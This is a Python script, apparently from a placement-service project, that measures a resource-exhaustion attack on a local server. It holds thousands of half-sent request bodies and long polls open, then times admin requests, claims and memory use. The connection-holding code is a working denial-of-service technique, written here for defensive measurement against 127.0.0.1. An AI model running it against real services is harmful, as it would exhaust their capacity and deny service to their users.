#!/usr/bin/env python3
"""Issue 50, item 2's attack, measured (127.0.0.1 only): against a server
at HOST:PORT (noauth2) with pid PID, hold open

  - BODIES connections each sending `POST /healthcheck` with
    `Content-Length: 100` and one byte (no token),
  - 40 connections each sending half of a 10 MB body to `POST /`,
  - POLLS long polls `GET /queue/{id}?wait=60` of one project,

then time an admin's `GET /resource_providers` (a new connection each
time), read the server's RSS, and time 300 claims from another process.

    python3 scripts/admission_load.py 127.0.0.1 8080 PID 4100 1000
"""
import asyncio
import json
import statistics
import subprocess
import sys
import time
import urllib.request
import uuid


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return 0.0


def call(host, port, method, path, body=None):
    req = urllib.request.Request(
        f"http://{host}:{port}{path}", method=method,
        data=None if body is None else json.dumps(body).encode(),
        headers={"x-auth-token": "admin", "content-type": "application/json",
                 "openstack-api-version": "placement 1.39"})
    with urllib.request.urlopen(req, timeout=30) as r:
        text = r.read()
        return json.loads(text) if text else None


def node(host, port):
    """A provider with room for every claim the measurement makes."""
    rp = str(uuid.uuid4())
    call(host, port, "POST", "/resource_providers", {"name": f"load-{rp}", "uuid": rp})
    call(host, port, "PUT", f"/resource_providers/{rp}/inventories",
         {"resource_provider_generation": 0,
          "inventories": {"VCPU": {"total": 100000}, "MEMORY_MB": {"total": 10000000}}})
    return rp


def claims(host, port, rp, n=300):
    """Seconds of n claims of new consumers, one after another."""
    took, failed = [], 0
    for _ in range(n):
        t = time.monotonic()
        try:
            call(host, port, "PUT", f"/allocations/{uuid.uuid4()}",
                 {"allocations": {rp: {"resources": {"VCPU": 1, "MEMORY_MB": 64}}},
                  "project_id": str(uuid.uuid4()), "user_id": "u", "consumer_generation": None,
                  "consumer_type": "INSTANCE"})
            took.append(time.monotonic() - t)
        except OSError:
            failed += 1
    took.sort()
    if not took:
        return float("nan"), float("nan"), failed
    return took[len(took) // 2] * 1000, took[int(len(took) * 0.99)] * 1000, failed


def queue_one(host, port):
    # More than any provider has: it stays pending, so the polls are held.
    body = {"consumer_uuid": str(uuid.uuid4()), "project_id": "P", "user_id": "u",
            "resources": {"VCPU": 10000000}}
    req = urllib.request.Request(
        f"http://{host}:{port}/queue", data=json.dumps(body).encode(), method="POST",
        headers={"x-auth-token": "admin", "content-type": "application/json",
                 "openstack-api-version": "placement 1.39"})
    with urllib.request.urlopen(req, timeout=30) as r:
        return json.load(r)["id"]


async def hold(host, port, data, held):
    try:
        r, w = await asyncio.open_connection(host, port)
        w.write(data)
        await w.drain()
        held.append((r, w))
    except OSError:
        pass


async def admin_get(host, port):
    t = time.monotonic()
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
        w.write(b"GET /resource_providers HTTP/1.1\r\nHost: x\r\nx-auth-token: admin\r\n"
                b"connection: close\r\n\r\n")
        await w.drain()
        head = await asyncio.wait_for(r.readline(), 10)
        w.close()
        ok = head.startswith(b"HTTP/1.1 200")
    except (OSError, asyncio.TimeoutError):
        ok = False
    return ok, time.monotonic() - t


async def main():
    host, port, pid = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    bodies, polls = int(sys.argv[4]), int(sys.argv[5])
    print(f"RSS at rest: {rss_mb(pid):.0f} MB")
    rp = node(host, port)
    p50, p99, failed = claims(host, port, rp)
    print(f"claims at rest: p50 {p50:.1f} ms, p99 {p99:.1f} ms, {failed} failed")
    # Let the provider's first claims settle the pool before the attack.
    rid = queue_one(host, port)
    held = []
    small = (b"POST /healthcheck HTTP/1.1\r\nHost: x\r\ncontent-type: application/json\r\n"
             b"content-length: 100\r\n\r\n{")
    big_head = (b"POST / HTTP/1.1\r\nHost: x\r\ncontent-type: application/json\r\n"
                b"content-length: 10485760\r\n\r\n")
    poll = (f"GET /queue/{rid}?wait=60 HTTP/1.1\r\nHost: x\r\nx-auth-token: admin\r\n"
            "openstack-api-version: placement 1.39\r\n\r\n").encode()
    for i in range(0, bodies, 200):
        await asyncio.gather(*(hold(host, port, small, held) for _ in range(min(200, bodies - i))))
    await asyncio.gather(*(hold(host, port, big_head + b"x" * (5 * 1024 * 1024), held) for _ in range(40)))
    for i in range(0, polls, 200):
        await asyncio.gather(*(hold(host, port, poll, held) for _ in range(min(200, polls - i))))
    await asyncio.sleep(1)
    print(f"held: {len(held)} connections opened")
    results = []
    for _ in range(20):
        results.append(await admin_get(host, port))
        await asyncio.sleep(0.1)
    times = sorted(t for ok, t in results if ok)
    failed = sum(1 for ok, _ in results if not ok)
    if times:
        print(f"admin GET /resource_providers: {len(times)} answered 200, {failed} failed; "
              f"median {statistics.median(times) * 1000:.1f} ms, max {times[-1] * 1000:.1f} ms")
    else:
        print(f"admin GET /resource_providers: all {failed} failed")
    print(f"RSS under attack: {rss_mb(pid):.0f} MB")
    # In a process of its own: from this one, the event loop holding
    # thousands of sockets put ~10 ms on the claims' p99 by itself.
    out = await asyncio.to_thread(
        subprocess.run, [sys.executable, __file__, "--claims", host, str(port), rp],
        capture_output=True, text=True)
    print(f"claims under attack: {out.stdout.strip()}")
    # How many attack connections the server had already answered or closed.
    closed = 0
    for r, _ in held:
        try:
            data = await asyncio.wait_for(r.read(1), 0.01)
            closed += 1 if data is not None else 0
        except (asyncio.TimeoutError, OSError):
            pass
    print(f"attack connections answered or closed by then: {closed} of {len(held)}")
    for _, w in held:
        w.close()


if len(sys.argv) == 5 and sys.argv[1] == "--claims":
    p50, p99, failed = claims(sys.argv[2], int(sys.argv[3]), sys.argv[4])
    print(f"p50 {p50:.1f} ms, p99 {p99:.1f} ms, {failed} failed")
else:
    asyncio.run(main())
